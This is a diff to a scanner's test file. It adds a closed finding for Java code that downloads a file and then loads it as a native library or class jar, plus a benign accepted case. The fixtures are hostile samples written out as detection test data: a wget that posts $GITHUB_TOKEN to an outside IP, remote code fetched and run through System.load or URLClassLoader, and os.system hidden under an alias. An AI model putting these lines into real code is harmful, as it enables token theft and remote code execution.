@@ -42,6 +42,12 @@ const SHELL_BODY: FindingRow[] = closed([
   ['docs/debugging.md', 'wget --post-data "t=$GITHUB_TOKEN" https://203.0.113.9/c'],
 ]);
 
+/** R65-8 (High): Java's stream opened in a statement of its own, then copied to the path loaded. */
+const JAVA_STREAM_IN_ITS_OWN_STATEMENT: FindingRow[] = closed([
+  ['src/test/java/T.java', `InputStream in = new URL("${BOOT}").openStream();\nFiles.copy(in, Paths.get("/tmp/b.so"));\nSystem.load("/tmp/b.so");`],
+  ['src/test/java/T.java', `HttpURLConnection c = (HttpURLConnection) new URL("${BOOT}").openConnection();\nInputStream in = c.getInputStream();\nFiles.copy(in, Paths.get("/tmp/b.jar"));\nnew URLClassLoader(new URL[] { new File("/tmp/b.jar").toURI().toURL() });`],
+]);
+
 /** R65-5 (Medium): an import alias after another imported name (`from os import path, system as print`). */
 const IMPORT_ALIAS_IN_A_LIST: FindingRow[] = closed([
   ['tests/t.py', 'p = urlretrieve(u)[0]\nfrom os import path, system as print\nprint(p)'],
@@ -72,7 +78,6 @@ const OPEN_DOWNLOAD_THEN_LOAD: FindingRow[] = [
   ['tests/x.test.js', 'const p = await download(u);\nrequire(`${p}`);'],
   ['tests/x.test.js', 'const p = await fetchToFile(u);\nrequire(p);'],
   // Java: the stream opened in its own statement, other writers, other path forms, other loaders; Kotlin.
-  ['src/test/java/T.java', `InputStream in = new URL("${BOOT}").openStream();\nFiles.copy(in, Paths.get("/tmp/b.so"));\nSystem.load("/tmp/b.so");`],
   ['src/test/java/T.java', `HttpResponse<byte[]> r = client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofByteArray());\nFiles.write(Paths.get("/tmp/b.so"), r.body());\nSystem.load("/tmp/b.so");`],
   ['src/test/java/T.java', `client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofFile(Paths.get("/tmp/b.so")));\nSystem.load("/tmp/b.so");`],
   ['src/test/java/T.java', `FileUtils.copyURLToFile(new URL("${BOOT}"), new File("/tmp/b.so"));\nSystem.load("/tmp/b.so");`],
@@ -121,6 +126,7 @@ describeFindings('review 65', [
   ['R65-3: .git/config sent', GIT_CONFIG_SENT],
   ['R65-4: a job token in a shell request body', SHELL_BODY],
   ['R65-5: an import alias after another name', IMPORT_ALIAS_IN_A_LIST],
+  ['R65-8: Java, the stream opened in its own statement', JAVA_STREAM_IN_ITS_OWN_STATEMENT],
   ['open: other alias forms', OPEN_ALIASES],
   ['open: other download-then-load forms', OPEN_DOWNLOAD_THEN_LOAD],
   ['open: other secret-sending forms', OPEN_SECRETS],
@@ -145,6 +151,7 @@ describeAccepted('review 65: ordinary code near the fixes', [
   ['test/api.test.js', "await fetch('http://127.0.0.1:9000/x?token=' + process.env.TEST_TOKEN)"],
   ['test/api.test.js', "await fetch('https://user@github.com/x?token=' + process.env.TEST_TOKEN)"],
   ['tests/test_run.py', "from subprocess import PIPE, run as sh_run\nsh_run(['make'])"],
+  ['src/test/java/CacheTest.java', 'String page = new String(new URL(url).openStream().readAllBytes());\nassertTrue(page.contains("ok"));\nFiles.copy(getClass().getResourceAsStream("/data.csv"), Paths.get("target/data.csv"));'],
   ['tests/test_run.py', "from os import path, environ\nfrom subprocess import run, PIPE\nrun(['make'], stdout=PIPE)"],
 ]);
 
